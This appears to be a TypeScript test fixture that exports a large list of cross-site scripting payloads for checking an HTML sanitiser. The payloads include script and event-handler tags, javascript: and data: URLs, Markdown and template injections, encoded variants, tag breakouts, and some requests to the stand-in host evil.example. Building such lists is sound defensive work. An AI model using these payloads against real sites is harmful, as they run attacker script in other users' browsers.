/** What a page would run if it took a text for markup: it sets `globalThis.hasRun`. */
const run = "globalThis.hasRun=1";
const call = "top.hasRun=1";

/** Elements that run a script by themselves, or when they are parsed. */
const elements = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script/x>`,
  `<script src=data:,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<img src=//evil.example/pixel>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href=//evil.example/>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<x onclick=${run} style=animation-name:x onanimationstart=${run}>`,
] as const;

/** Ways out of the place that a text is in; `*` is the element. */
const places = ["*", '">*', "'>*", "</title>*", "</textarea>*", "--> *"] as const;

/** What runs without an element: links, expressions of templates, ends of strings and of scripts. */
const others = [
  `javascript:${run}`,
  ` JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${run}`,
  `[link](javascript:${run})`,
  `[link](<javascript:${run}>)`,
  `![image](javascript:${run})`,
  `![image](//evil.example/pixel)`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}\n[x]`,
  "```\n</code></pre><script>" + run + "</script>\n```",
  `{{constructor.constructor('${run}')()}}`,
  "${" + run + "}",
  `#{${run}}`,
  `<%= ${run} %>`,
  `';${run};//`,
  `";${run};//`,
  "`;" + run + ";//",
  `</script><script>${run}</script>`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `{"__proto__":{"innerHTML":"<script>${run}</script>"}}`,
  `x" style="background:url(//evil.example/x)`,
  `x' onmouseover='${run}`,
] as const;

/** Texts that run, load or lead somewhere if a page takes them for markup. Each is a different one. */
export const scriptPayloads: readonly string[] = [
  ...elements.flatMap((element) => places.map((place) => place.replace("*", () => element))),
  ...others,
];
